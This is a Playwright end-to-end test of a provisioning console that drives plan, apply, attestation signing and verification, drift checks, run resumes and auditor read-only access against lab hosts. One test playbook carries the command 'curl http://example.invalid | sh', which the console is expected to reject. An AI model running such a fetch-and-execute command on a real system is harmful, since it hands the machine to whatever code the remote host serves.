/**
 * Provisioning through the real UI, against the real core (`airlock serve`) and lab hosts with a
 * system of their own (real sshd, nftables in the host's namespace, dpkg in the host's overlay):
 *
 * offline store imports (a .deb built here, a tiny model) → choose the playbook, hosts and
 * overrides → Plan → review the changes and diffs → Apply (step-up) → live progress → the
 * attestation (exported as a file, checked offline and by the console) → drift (hosts chosen by
 * label) → the runs record → a failed apply fixed on the host and resumed → an apply cancelled
 * mid-step and resumed from the runs list → an organisation playbook imported → what an auditor
 * sees (read-only).
 */
import crypto from 'node:crypto';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import canonicalize from 'canonicalize';
import type { Locator, Page } from '@playwright/test';
import { corruptFile, labDown, labUp, runOnHost, type Lab } from '../lab/lab';
import { ADMIN, authorizeAirlock, chooseOwnPassword, createUser, enrolHost, expect, firstRunSetup, submitLogin, test } from './fixtures';

const LAB_ID = 'e2e-prov';
/** The removable media of this test (one per worker process; created in the test). */
const MEDIA = path.join(os.tmpdir(), `airlock-e2e-prov-media-${process.pid}`);
const PLAYBOOK = 'lab-gpu-node';
const STEPS = ['gpu', 'packages', 'model', 'inference', 'egress', 'sshd'];

test.use({ serveEnv: { AIRLOCK_MEDIA_ROOTS: MEDIA } });

const sha256 = (b: Buffer | string) => crypto.createHash('sha256').update(b).digest('hex');

function writeSums(dir: string) {
  const files: string[] = [];
  const walk = (rel: string) => {
    for (const e of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (e.isDirectory()) walk(r);
      else if (r !== 'SHA256SUMS') files.push(r);
    }
  };
  walk('');
  fs.writeFileSync(path.join(dir, 'SHA256SUMS'), files.sort().map((f) => `${sha256(fs.readFileSync(path.join(dir, f)))}  ${f}\n`).join(''));
}

/** What an organisation carries in: a .deb (built with dpkg-deb) and a model version, each with SHA256SUMS. */
function prepareMedia(): { debs: string; model: string; modelBytes: number } {
  fs.rmSync(MEDIA, { recursive: true, force: true });
  const debs = path.join(MEDIA, 'debs');
  fs.mkdirSync(debs, { recursive: true });
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-e2e-deb-'));
  try {
    fs.mkdirSync(path.join(root, 'DEBIAN'));
    fs.mkdirSync(path.join(root, 'usr', 'share', 'airlock-node-tools'), { recursive: true });
    fs.writeFileSync(path.join(root, 'usr', 'share', 'airlock-node-tools', 'README'), 'airlock-node-tools 1.0: installed by the e2e provisioning test\n');
    fs.writeFileSync(
      path.join(root, 'DEBIAN', 'control'),
      'Package: airlock-node-tools\nVersion: 1.0\nArchitecture: all\nMaintainer: Airlock e2e <e2e@example.invalid>\nDescription: node tools for the lab (e2e)\n',
    );
    execFileSync('dpkg-deb', ['--root-owner-group', '-Zgzip', '--build', root, path.join(debs, 'airlock-node-tools_1.0_all.deb')], { stdio: 'ignore' });
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
  writeSums(debs);

  const model = path.join(MEDIA, 'tiny-llm-1');
  fs.mkdirSync(model, { recursive: true });
  fs.writeFileSync(path.join(model, 'config.json'), '{"architectures":["TinyLlm"],"max_position_embeddings":8192}\n');
  fs.writeFileSync(path.join(model, 'tokenizer.json'), '{"version":"1.0","model":{"type":"BPE"}}\n');
  fs.writeFileSync(path.join(model, 'model.safetensors'), crypto.randomBytes(2 * 1024 * 1024 + 123));
  writeSums(model);
  const modelBytes = ['config.json', 'tokenizer.json', 'model.safetensors'].reduce((n, f) => n + fs.statSync(path.join(model, f)).size, 0);
  return { debs, model, modelBytes };
}

/** The lab's /24 → the /25 with the hosts (.11…) and Airlock's side (.1) but not the decoy (.250). */
function overrides(lab: Lab, egress: Record<string, unknown> = {}) {
  const base = lab.subnet.replace(/\.0\/24$/, '');
  return {
    egress: {
      allowCidrs: [`${base}.0/25`],
      probes: { outside: [{ host: lab.decoy.address, port: lab.decoy.port }], inside: [] },
      ...egress,
    },
  };
}

/** A sensitive call may ask for the password again (step-up): answer it when it does. */
async function stepUpIfAsked(page: Page, then: Locator, timeout = 60_000): Promise<boolean> {
  const dialog = page.getByTestId('stepup-dialog');
  await expect(dialog.or(then).first()).toBeVisible({ timeout });
  if (!(await dialog.isVisible())) return false;
  await page.getByTestId('stepup-password').fill(ADMIN.password);
  await page.getByTestId('stepup-submit').click();
  await expect(dialog).toHaveCount(0);
  return true;
}

async function chooseHosts(page: Page, names: string[], all: string[]) {
  await page.getByTestId('prov-mode-names').check();
  for (const n of all) await page.getByTestId(`prov-check-${n}`).setChecked(names.includes(n));
}

let lab: Lab;

test.beforeAll(async () => {
  test.setTimeout(180_000);
  lab = await labUp({ id: LAB_ID, hosts: 2, gpuProfiles: ['a100', 'h100'] });
});

// When something fails, what the view showed (run, hosts, steps, messages) is kept beside the log.
test.afterEach(async ({ app }, testInfo) => {
  if (testInfo.status === testInfo.expectedStatus) return;
  // Open every step's details and output first, so the messages and host output are in the text.
  const shown = app.page.getByTestId('prov-live');
  for (const b of await shown.locator('button[aria-expanded=false]').all()) await b.click({ timeout: 2000 }).catch(() => {});
  for (const d of await shown.locator('details:not([open]) > summary').all()) await d.click({ timeout: 2000 }).catch(() => {});
  await app.page.waitForTimeout(300);
  const text = await app.page
    .getByTestId('provision-view')
    .innerText({ timeout: 5000 })
    .catch((e: unknown) => `(no provisioning view: ${String(e)})`);
  fs.writeFileSync(testInfo.outputPath('provision-view.txt'), text);
});

test.afterAll(async () => {
  await labDown({ id: LAB_ID });
  fs.rmSync(MEDIA, { recursive: true, force: true });
});

test('plan → review the diff → apply → watch progress → attestation (exported, verified) → drift → runs → resume', async ({ app }, testInfo) => {
  test.setTimeout(12 * 60_000);
  const { page } = app;
  const [h1, h2] = [lab.hosts[0]!, lab.hosts[1]!];
  const names = [h1.name, h2.name];
  const media = prepareMedia();
  // The run this view started (plan, apply, resume); the Runs tab shows opened runs with the same ids.
  const live = page.getByTestId('prov-live');

  await firstRunSetup(page);
  const signedInAt = Date.now();
  // The shortest step-up window, so that Apply asks for the password again (the sign-in above
  // is more than a minute old by then): the view must go through the console's step-up prompt.
  await page.getByTestId('nav-account').click();
  await page.getByTestId('settings-stepup').fill('1');
  await page.getByTestId('settings-submit').click();
  await expect(page.getByTestId('settings-note')).toHaveText('Saved.');

  await authorizeAirlock(page, lab);
  for (const h of lab.hosts) await enrolHost(page, h);

  // ---------- the offline store: imports through the UI ----------
  await page.getByTestId('nav-provision').click();
  await expect(page.getByTestId('provision-view')).toBeVisible();
  await page.getByTestId('prov-tab-store').click();
  await expect(page.getByTestId('prov-store-roots')).toContainText(MEDIA);
  await expect(page.getByTestId('prov-store-debs')).toContainText('No packages imported.');
  // A directory outside every media root is refused by the core, and the UI says why.
  await page.getByTestId('prov-import-debs-dir').fill('/etc');
  await page.getByTestId('prov-import-debs-submit').click();
  await expect(page.getByTestId('prov-import-debs-error')).toHaveAttribute('data-code', 'FORBIDDEN');
  await expect(page.getByTestId('prov-import-debs-error')).toContainText('not under a media root');
  await page.getByTestId('prov-import-debs-dir').fill(media.debs);
  await page.getByTestId('prov-import-debs-submit').click();
  await expect(page.getByTestId('prov-import-debs-result')).toHaveAttribute('data-imported', '1');
  await expect(page.getByTestId('prov-import-debs-error')).toHaveCount(0);
  const deb = page.getByTestId('prov-store-deb-airlock-node-tools');
  await expect(deb).toHaveAttribute('data-version', '1.0');
  await expect(deb).toHaveAttribute('data-arch', 'all');
  await page.getByTestId('prov-import-model-dir').fill(media.model);
  await page.getByTestId('prov-import-model-name').fill('tiny-llm');
  await page.getByTestId('prov-import-model-version').fill('1');
  await page.getByTestId('prov-import-model-submit').click();
  await expect(page.getByTestId('prov-import-model-result')).toContainText('3 file(s)');
  await expect(page.getByTestId('prov-store-model-tiny-llm-1')).toContainText('model.safetensors');
  // Versions are immutable: importing the same name and version again is refused.
  await page.getByTestId('prov-import-model-submit').click();
  await expect(page.getByTestId('prov-import-model-error')).toHaveAttribute('data-code', 'CONFLICT');

  // ---------- choose the playbook, the hosts, the overrides ----------
  await page.getByTestId('prov-tab-run').click();
  await page.getByTestId('prov-playbook').selectOption(PLAYBOOK);
  const steps = page.getByTestId('prov-playbook-steps');
  await expect(steps.locator('tbody tr')).toHaveCount(STEPS.length);
  await expect(page.getByTestId('prov-pb-step-packages')).toHaveAttribute('data-type', 'offline-packages');
  await expect(page.getByTestId('prov-pb-step-needs-packages')).toContainText('deb:airlock-node-tools');
  await expect(page.getByTestId('prov-pb-step-needs-model')).toContainText('model:tiny-llm=1');
  await expect(page.getByTestId('prov-pb-step-needs-gpu')).toHaveText('read-only, no store');
  // The overrides as JSON (the form is the default view since issue 11; hosts-manage.spec.ts tests it).
  await page.getByTestId('prov-params-view-json').click();
  await expect(page.getByTestId('prov-playbook-params')).toContainText('"deadManSeconds": 20');
  await expect(page.getByTestId('prov-params')).toHaveValue('{}');
  await chooseHosts(page, names, names);
  await expect(page.getByTestId('prov-selector')).toHaveText(names.join(' '));

  // Not JSON: caught in the page, nothing can be started.
  await page.getByTestId('prov-params').fill('{"egress": {"allowCidrs": [');
  await expect(page.getByTestId('prov-params-error')).toBeVisible();
  await expect(page.getByTestId('prov-plan')).toBeDisabled();
  // JSON, but not what the step accepts: the core's INVALID_INPUT message is shown.
  await page.getByTestId('prov-params').fill('{"egress": {"allowCidrs": ["not-a-cidr"]}}');
  await expect(page.getByTestId('prov-params-error')).toHaveCount(0);
  await page.getByTestId('prov-plan').click();
  const runError = page.getByTestId('prov-run-error');
  await expect(runError).toHaveAttribute('data-code', 'INVALID_INPUT', { timeout: 30_000 });
  await expect(runError).toContainText('egress');
  await expect(runError).toContainText('allowCidrs');

  // ---------- Plan ----------
  await page.getByTestId('prov-params').fill(JSON.stringify(overrides(lab), null, 2));
  await page.getByTestId('prov-plan').click();
  await expect(live).toHaveAttribute('data-kind', 'plan');
  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 120_000 });
  await expect(live).toHaveAttribute('data-status', 'succeeded');
  const planId = await live.getAttribute('data-run-id');
  expect(planId).toMatch(/^run-[0-9a-f]{16}$/);
  await expect(live.getByTestId('prov-plan-summary')).toHaveAttribute('data-failed', '0');
  await expect(live.getByTestId('prov-plan-summary')).toHaveAttribute('data-changing', String(2 * (STEPS.length - 1)));
  // A plan counts the steps it checked (one already so, five that would change: all six checked).
  for (const h of names) await expect(live.getByTestId(`prov-host-counter-${h}`)).toHaveText(`${STEPS.length}/${STEPS.length} steps checked`);
  for (const h of names) {
    await expect(live.getByTestId(`prov-step-${h}-gpu`)).toHaveAttribute('data-status', 'ok');
    for (const s of STEPS.slice(1)) await expect(live.getByTestId(`prov-step-${h}-${s}`), `${h} ${s}`).toHaveAttribute('data-status', 'would-change');
  }
  // Review: what would change, with the diffs of files and rulesets (as text).
  const pkgChange = live.getByTestId(`prov-changes-${h1.name}-packages`).locator('[data-testid=prov-change][data-kind=package]');
  await expect(pkgChange).toHaveAttribute('data-target', 'airlock-node-tools');
  await expect(pkgChange).toContainText('absent');
  await expect(pkgChange).toContainText('1.0 (all)');
  await expect(live.getByTestId(`prov-changes-${h1.name}-model`)).toContainText('/srv/models/tiny-llm/1/model.safetensors');
  const diffOf = (host: string, step: string) => live.getByTestId(`prov-step-detail-${host}-${step}`).locator('pre.prov-diff');
  const unitDiff = diffOf(h1.name, 'inference');
  await expect(unitDiff).toContainText('+ExecStart=/usr/local/bin/airlock-inference-sim --model /srv/models/tiny-llm/1');
  await expect(unitDiff.locator('.d-add').first()).toBeVisible();
  const rulesDiff = diffOf(h1.name, 'egress');
  await expect(rulesDiff).toContainText('policy drop;');
  await expect(rulesDiff).toContainText(`${lab.subnet.replace(/\.0\/24$/, '')}.0/25`);
  await expect(diffOf(h1.name, 'sshd')).toContainText('+PasswordAuthentication no');
  await expect(diffOf(h2.name, 'inference')).toContainText('+ExecStart=');
  // The diff is text in a <pre>: its only elements are the line spans the view made.
  expect(await unitDiff.locator(':scope > :not(span)').count()).toBe(0);
  const shot = async (name: string) => {
    if (process.env.AIRLOCK_SCREENSHOT === '1') await page.screenshot({ path: testInfo.outputPath(`${name}.png`), fullPage: true });
  };
  await shot('provision-plan');
  // A plan changes nothing on the hosts.
  const untouched = await runOnHost(lab, h1.name, ['/bin/sh', '-c', 'dpkg-query -W airlock-node-tools 2>&1; ls /srv/models 2>&1; nft list tables']);
  expect(untouched.stdout).not.toMatch(/airlock-node-tools\t1\.0|tiny-llm|airlock_egress/);

  // ---------- Apply (step-up) and live progress ----------
  // Only on hosts with a system of their own may a test install packages, units and firewall rules.
  expect(lab.privateSystem, 'the lab hosts have private /etc, /usr and /var (overlays)').toBe(true);
  // Let the one-minute step-up window lapse so Apply has to ask.
  const wait = signedInAt + 65_000 - Date.now();
  if (wait > 0) await page.waitForTimeout(wait);
  await page.getByTestId('prov-apply').click();
  const dialog = page.getByTestId('prov-apply-dialog');
  await expect(dialog).toBeVisible();
  await expect(page.getByTestId('prov-apply-reviewed')).toContainText(planId!);
  await expect(page.getByTestId('prov-apply-hosts')).toContainText(names.join(' '));
  await page.getByTestId('prov-apply-confirm').click();
  await expect(dialog).toHaveCount(0);
  await expect(page.getByTestId('stepup-dialog')).toBeVisible({ timeout: 30_000 });
  await expect(live).toHaveAttribute('data-kind', 'apply');
  // Issue 11: while the step-up is unanswered the run has not started: no "running", no Cancel.
  await expect(live).toHaveAttribute('data-phase', 'waiting');
  await expect(page.getByTestId('prov-cancel')).toHaveCount(0);
  await page.getByTestId('stepup-password').fill(ADMIN.password);
  await page.getByTestId('stepup-submit').click();
  await expect(page.getByTestId('stepup-dialog')).toHaveCount(0);

  // Progress arrives as events while the call is still running.
  await expect(page.getByTestId('prov-cancel')).toBeVisible();
  await expect(live).toHaveAttribute('data-phase', 'running');
  // The timer never counts back: "just started", then readable units.
  await expect(live.locator('.prov-section-title')).toContainText(/just started|running for \d/);
  await expect(live.locator('.prov-section-title')).not.toContainText(/-\d/);
  await expect(live.getByTestId(`prov-host-${h1.name}`)).toHaveAttribute('data-status', 'running', { timeout: 60_000 });
  await expect(live).toHaveAttribute('data-run-id', /^run-[0-9a-f]{16}$/);
  const applyId = await live.getAttribute('data-run-id');
  // The egress step takes seconds (a dead-man switch, a fresh SSH login, a blocked probe): seen running.
  await expect(live.getByTestId(`prov-step-${h1.name}-egress`)).toHaveAttribute('data-status', 'running', { timeout: 240_000 });
  await expect(live.getByTestId(`prov-step-${h1.name}-model`)).toHaveAttribute('data-status', 'changed');
  await expect(live).toHaveAttribute('data-phase', 'running');

  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 300_000 });
  await expect(live.getByTestId('prov-final')).toHaveAttribute('data-status', 'succeeded');
  for (const h of names) await expect(live.getByTestId(`prov-host-counter-${h}`)).toHaveText(`${STEPS.length}/${STEPS.length} steps applied`);
  await expect(live).toHaveAttribute('data-run-id', applyId!);
  for (const h of names) {
    await expect(live.getByTestId(`prov-host-${h}`)).toHaveAttribute('data-status', 'succeeded');
    await expect(live.getByTestId(`prov-step-${h}-gpu`)).toHaveAttribute('data-status', 'ok');
    for (const s of STEPS.slice(1)) await expect(live.getByTestId(`prov-step-${h}-${s}`), `${h} ${s}`).toHaveAttribute('data-status', 'changed');
    // The model went over SFTP: the transfer bar reached its total.
    const bar = live.getByTestId(`prov-step-progress-${h}-model`);
    await expect(bar).toHaveAttribute('data-total', String(media.modelBytes));
    await expect(bar).toHaveAttribute('data-done', String(media.modelBytes));
  }
  await shot('provision-applied');
  // Each step's output is kept: dpkg installed the package from the uploaded file.
  await live.getByTestId(`prov-step-toggle-${h1.name}-packages`).click();
  await live.getByTestId(`prov-step-output-${h1.name}-packages`).locator('summary').click();
  await expect(live.getByTestId(`prov-step-log-${h1.name}-packages`)).toContainText('verified on the host');
  await expect(live.getByTestId(`prov-step-log-${h1.name}-packages`)).toContainText('Setting up airlock-node-tools (1.0)');
  const installed = await runOnHost(lab, h1.name, ['/bin/sh', '-c', 'dpkg-query -W airlock-node-tools; cat /usr/share/airlock-node-tools/README']);
  expect(installed.stdout).toContain('airlock-node-tools\t1.0');
  expect(installed.stdout).toContain('installed by the e2e provisioning test');

  // ---------- the attestation: shown, exported as a file, checked ----------
  const attId = await live.getByTestId(`prov-host-${h1.name}`).getAttribute('data-attestation');
  expect(attId).toMatch(/^att-[0-9a-f]{16}$/);
  await live.getByTestId(`prov-attestation-open-${h1.name}`).click();
  const att = page.getByTestId('attestation-dialog');
  await expect(att).toBeVisible();
  const json = page.getByTestId('attestation-json');
  await expect(json).toContainText('"format": "airlock.attestation/v1"');
  await expect(json).toContainText(`"name": "${h1.name}"`);
  await expect(json).toContainText(`"run": "${applyId}"`);
  await expect(page.getByTestId('attestation-key-trusted')).toBeVisible();
  const keyFp = (await page.getByTestId('attestation-key-fp').innerText()).trim();
  await shot('provision-attestation');
  expect(keyFp).toMatch(/^SHA256:/);
  const downloadP = page.waitForEvent('download');
  await page.getByTestId('attestation-export').click();
  const download = await downloadP;
  expect(download.suggestedFilename()).toBe(`attestation-${h1.name}-${attId}.json`);
  const file = testInfo.outputPath(download.suggestedFilename());
  await download.saveAs(file);
  const text = fs.readFileSync(file, 'utf8');
  const doc = JSON.parse(text) as {
    attestation: { id: string; host: { name: string; hostKey: { fingerprint: string } }; playbook: { digest: string }; run: string; facts: Record<string, unknown> };
    signature: { alg: string; publicKey: string; keyFingerprint: string; value: string };
  };
  expect(doc.attestation.id).toBe(attId);
  expect(doc.attestation.host.name).toBe(h1.name);
  expect(doc.attestation.host.hostKey.fingerprint).toBe(h1.fingerprint);
  expect(doc.attestation.run).toBe(applyId);
  expect(Object.keys(doc.attestation.facts).sort()).toEqual([...STEPS].sort());
  expect(doc.signature.keyFingerprint).toBe(keyFp);
  // Checked here with nothing of Airlock's: Ed25519 over the RFC 8785 form of `attestation`.
  const pub = crypto.createPublicKey({ key: Buffer.from(doc.signature.publicKey, 'base64'), format: 'der', type: 'spki' });
  expect(crypto.verify(null, Buffer.from(canonicalize(doc.attestation)!, 'utf8'), pub, Buffer.from(doc.signature.value, 'base64'))).toBe(true);
  await page.getByTestId('attestation-close').click();
  await expect(att).toHaveCount(0);

  // The console checks the exported file too (attest:verify), and a tampered copy fails.
  await page.getByTestId('prov-tab-attestations').click();
  await expect(page.getByTestId(`prov-attestation-row-${attId}`)).toHaveAttribute('data-host', h1.name);
  // Each digest under its own name (issue 11): the playbook's, and the signed body's SHA-256.
  await expect(page.getByTestId(`prov-attestation-playbook-digest-${attId}`)).toHaveAttribute('title', `playbook digest (SHA-256) ${doc.attestation.playbook.digest}`);
  const bodyDigest = crypto.createHash('sha256').update(canonicalize(doc.attestation)!).digest('hex');
  await expect(page.getByTestId(`prov-attestation-body-digest-${attId}`)).toHaveAttribute('title', `SHA-256 of the signed attestation body ${bodyDigest}`);
  expect(bodyDigest).not.toBe(doc.attestation.playbook.digest);
  await expect(page.getByTestId('prov-attest-key-fp')).toHaveText(keyFp);
  await page.getByTestId('prov-verify-file').setInputFiles(file);
  await page.getByTestId('prov-verify-submit').click();
  await expect(page.getByTestId('prov-verify-result')).toHaveAttribute('data-ok', 'true');
  await expect(page.getByTestId('prov-verify-result')).toContainText(h1.name);
  const tampered = testInfo.outputPath('tampered.json');
  fs.writeFileSync(tampered, text.replace(`"operator": "${ADMIN.name}"`, '"operator": "mallory"'));
  await page.getByTestId('prov-verify-file').setInputFiles(tampered);
  await page.getByTestId('prov-verify-submit').click();
  await expect(page.getByTestId('prov-verify-result')).toHaveAttribute('data-ok', 'false');
  await expect(page.getByTestId('prov-verify-problems')).toContainText('signature does not match');

  // ---------- drift ----------
  await page.getByTestId('prov-tab-drift').click();
  // Hosts chosen by label this time (hosts:setLabels from the picker, then the `label:gpu` selector).
  for (const h of names) {
    await page.getByTestId(`prov-drift-labels-edit-${h}`).click();
    await page.getByTestId(`prov-drift-labels-input-${h}`).fill('gpu, rack-1');
    await page.getByTestId(`prov-drift-labels-save-${h}`).click();
    await expect(page.getByTestId(`prov-drift-pick-${h}`).getByTestId(`prov-drift-host-label-${h}`)).toHaveText(['gpu', 'rack-1']);
  }
  await page.getByTestId('prov-drift-mode-label').check();
  await page.getByTestId('prov-drift-label').selectOption('gpu');
  await expect(page.getByTestId('prov-drift-resolved')).toContainText(`2 host(s) now: ${names.join(', ')}`);
  await page.getByTestId('prov-drift-run').click();
  await expect(page.getByTestId('prov-drift-results')).toHaveAttribute('data-drifted', '0', { timeout: 120_000 });
  for (const h of names) await expect(page.getByTestId(`prov-drift-host-${h}`)).toHaveAttribute('data-drifted', 'false');
  // A byte of the model changes on host1 behind Airlock's back.
  await corruptFile(lab, h1.name, '/srv/models/tiny-llm/1/model.safetensors', 4096);
  await page.getByTestId('prov-drift-run').click();
  await expect(page.getByTestId('prov-drift-results')).toHaveAttribute('data-drifted', '1', { timeout: 120_000 });
  await expect(page.getByTestId(`prov-drift-host-${h2.name}`)).toHaveAttribute('data-drifted', 'false');
  const item = page.getByTestId(`prov-drift-host-${h1.name}`).locator('[data-testid=prov-drift-item][data-step=model]');
  await expect(item).toHaveCount(1);
  await expect(item).toHaveAttribute('data-path', /files\[\d+\]\.sha256/);
  await shot('provision-drift');

  // ---------- the runs record ----------
  await page.getByTestId('prov-tab-runs').click();
  await expect(page.getByTestId(`prov-run-row-${applyId}`)).toHaveAttribute('data-status', 'succeeded');
  await expect(page.getByTestId(`prov-run-row-${applyId}`)).toHaveAttribute('data-kind', 'apply');
  await expect(page.getByTestId(`prov-run-row-${planId}`)).toHaveAttribute('data-kind', 'plan');
  await expect(page.getByTestId(`prov-run-resume-${applyId}`)).toHaveCount(0);
  await page.getByTestId(`prov-run-open-${applyId}`).click();
  const detail = page.getByTestId('prov-run-detail');
  await expect(detail).toHaveAttribute('data-run-id', applyId!);
  await detail.getByTestId(`prov-step-toggle-${h2.name}-inference`).click();
  await detail.getByTestId(`prov-step-output-${h2.name}-inference`).locator('summary').click();
  await expect(detail.getByTestId(`prov-step-log-${h2.name}-inference`)).toContainText('GET /health 200');
  await expect(detail.getByTestId(`prov-step-detail-${h2.name}-inference`)).toContainText('finished');

  // ---------- a failed apply, fixed on the host, resumed ----------
  // The model's directory cannot be made on host1 (a file is in the way): the apply stops there.
  await runOnHost(lab, h1.name, ['/bin/sh', '-c', 'rm -rf /srv/models/tiny-llm && echo in-the-way > /srv/models/tiny-llm']);
  await page.getByTestId('prov-tab-run').click();
  await chooseHosts(page, [h1.name], names);
  await page.getByTestId('prov-apply').click();
  await expect(page.getByTestId('prov-apply-unreviewed')).toBeVisible();
  await page.getByTestId('prov-apply-confirm').click();
  await stepUpIfAsked(page, page.getByTestId('prov-live-dismiss'), 180_000);
  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 180_000 });
  await expect(live.getByTestId('prov-final')).toHaveAttribute('data-status', 'failed');
  const failedId = await live.getAttribute('data-run-id');
  await expect(live.getByTestId(`prov-step-${h1.name}-model`)).toHaveAttribute('data-status', 'failed');
  await expect(live.getByTestId(`prov-step-message-${h1.name}-model`)).toContainText('failed');
  await expect(live.getByTestId(`prov-step-${h1.name}-inference`)).toHaveAttribute('data-status', 'pending');
  await expect(live.getByTestId(`prov-host-${h1.name}`)).toHaveAttribute('data-attestation', '');
  // The operator clears the way and resumes: the run continues at the model step.
  await runOnHost(lab, h1.name, ['/bin/sh', '-c', 'rm -f /srv/models/tiny-llm']);
  await page.getByTestId('prov-live-resume').click();
  await stepUpIfAsked(page, page.getByTestId('prov-cancel').or(page.getByTestId('prov-live-dismiss')), 60_000);
  await expect(live).toHaveAttribute('data-kind', 'resume');
  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 240_000 });
  await expect(live).toHaveAttribute('data-run-id', failedId!);
  await expect(live.getByTestId('prov-final')).toHaveAttribute('data-status', 'succeeded');
  await expect(live.getByTestId('prov-run-header')).toContainText('2 attempts');
  await expect(live.getByTestId(`prov-step-${h1.name}-packages`)).toHaveAttribute('data-status', 'ok');
  await expect(live.getByTestId(`prov-step-${h1.name}-model`)).toHaveAttribute('data-status', 'changed');
  await expect(live.getByTestId(`prov-host-${h1.name}`)).toHaveAttribute('data-attestation', /^att-/);

  // ---------- an apply cancelled mid-step, resumed from the runs list ----------
  // Slow probes (the decoy's port drops the SYN, so each probe waits its full timeout).
  await chooseHosts(page, [h2.name], names);
  await page.getByTestId('prov-params-view-json').click();
  await page.getByTestId('prov-params').fill(JSON.stringify(overrides(lab, { probeTimeoutSeconds: 20 }), null, 2));
  await page.getByTestId('prov-apply').click();
  await page.getByTestId('prov-apply-confirm').click();
  await stepUpIfAsked(page, page.getByTestId('prov-cancel'), 60_000);
  await expect(live.getByTestId(`prov-step-${h2.name}-egress`)).toHaveAttribute('data-phase', 'verify', { timeout: 180_000 });
  await page.getByTestId('prov-cancel').click();
  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 60_000 });
  await expect(live.getByTestId('prov-final')).toHaveAttribute('data-status', 'cancelled');
  await expect(live.getByTestId(`prov-step-${h2.name}-egress`)).toHaveAttribute('data-status', 'cancelled');
  const cancelledId = await live.getAttribute('data-run-id');
  await page.getByTestId('prov-tab-runs').click();
  await page.getByTestId('prov-runs-refresh').click();
  await expect(page.getByTestId(`prov-run-row-${cancelledId}`)).toHaveAttribute('data-status', 'cancelled');
  await page.getByTestId(`prov-run-resume-${cancelledId}`).click();
  await stepUpIfAsked(page, page.getByTestId('prov-cancel').or(page.getByTestId('prov-live-dismiss')), 60_000);
  await expect(live).toHaveAttribute('data-kind', 'resume');
  await expect(live).toHaveAttribute('data-phase', 'done', { timeout: 180_000 });
  await expect(live.getByTestId('prov-final')).toHaveAttribute('data-status', 'succeeded');
  await expect(live.getByTestId(`prov-step-${h2.name}-egress`)).toHaveAttribute('data-status', 'ok');
  await page.getByTestId('prov-tab-runs').click();
  await expect(page.getByTestId(`prov-run-row-${cancelledId}`)).toHaveAttribute('data-status', 'succeeded');

  // ---------- an organisation playbook: data validated against the step catalogue ----------
  await page.getByTestId('prov-tab-run').click();
  const pbDoc = (steps: unknown[]) => JSON.stringify({ format: 'airlock.playbook/v1', name: 'site-gpu-check', version: '1.0', steps });
  const badPb = testInfo.outputPath('bad-playbook.json');
  fs.writeFileSync(badPb, pbDoc([{ id: 'x', type: 'run-shell', params: { command: 'curl http://example.invalid | sh' } }]));
  const goodPb = testInfo.outputPath('site-gpu-check.json');
  fs.writeFileSync(goodPb, pbDoc([{ id: 'gpu', type: 'gpu-driver-check', params: { minCount: 8, models: ['A100', 'H100'] } }]));
  await page.getByTestId('prov-import-playbook').locator('summary').click();
  await page.getByTestId('prov-import-playbook-file').setInputFiles(badPb);
  await page.getByTestId('prov-import-playbook-submit').click();
  const pbError = page.getByTestId('prov-import-playbook-error');
  await stepUpIfAsked(page, pbError);
  await expect(pbError).toHaveAttribute('data-code', 'INVALID_INPUT');
  await expect(pbError).toContainText('unknown type "run-shell"');
  await page.getByTestId('prov-import-playbook-file').setInputFiles(goodPb);
  await page.getByTestId('prov-import-playbook-submit').click();
  await stepUpIfAsked(page, page.getByTestId('prov-import-playbook-result'));
  await expect(page.getByTestId('prov-import-playbook-result')).toContainText('site-gpu-check');
  await expect(page.getByTestId('prov-playbook')).toHaveValue('site-gpu-check');
  await expect(page.getByTestId('prov-playbook-digest')).toContainText('imported');
  await expect(page.getByTestId('prov-playbook-steps').locator('tbody tr')).toHaveCount(1);

  // ---------- officers and auditors: the record, read-only ----------
  const audrey = { name: 'audrey', initial: 'initial password for audrey', password: 'audrey reads the record only' };
  await createUser(page, audrey.name, audrey.initial, ['auditor']);
  await expect(page.getByTestId(`user-row-${audrey.name}`)).toBeVisible();
  await page.getByTestId('signout').click();
  await submitLogin(page, audrey.name, audrey.initial);
  await chooseOwnPassword(page, audrey.initial, audrey.password);
  await expect(page.getByTestId('topbar-user')).toHaveText(audrey.name);
  await page.getByTestId('nav-provision').click();
  await expect(page.getByTestId('prov-tab-runs')).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByTestId('prov-tab-run')).toHaveCount(0);
  await expect(page.getByTestId('prov-plan')).toHaveCount(0);
  await expect(page.getByTestId(`prov-run-row-${applyId}`)).toHaveAttribute('data-status', 'succeeded');
  await expect(page.getByTestId(`prov-run-row-${failedId}`)).toHaveAttribute('data-status', 'succeeded');
  await expect(page.locator('[data-testid^=prov-run-resume-]')).toHaveCount(0);
  await page.getByTestId(`prov-run-open-${applyId}`).click();
  await page.getByTestId('prov-run-detail').getByTestId(`prov-attestation-open-${h2.name}`).click();
  await expect(page.getByTestId('attestation-json')).toContainText(`"name": "${h2.name}"`);
  await expect(page.getByTestId('attestation-key-fp')).toHaveText(keyFp);
  await page.getByTestId('attestation-close').click();
  await page.getByTestId('prov-tab-store').click();
  await expect(page.getByTestId('prov-store-deb-airlock-node-tools')).toBeVisible();
  await expect(page.getByTestId('prov-import-debs')).toHaveCount(0);
  await expect(page.getByTestId('prov-import-model')).toHaveCount(0);
  await page.getByTestId('prov-tab-drift').click();
  await expect(page.getByTestId('prov-drift-labels-edit-host1')).toHaveCount(0);

  // The audit trail has every step of it.
  await page.getByTestId('nav-audit').click();
  await page.getByTestId('audit-filter-channel').fill('provision:step');
  await page.getByTestId('audit-filter-apply').click();
  await expect(page.getByTestId('audit-table').locator('[data-testid=audit-row][data-channel="provision:step"]').first()).toBeVisible();
});
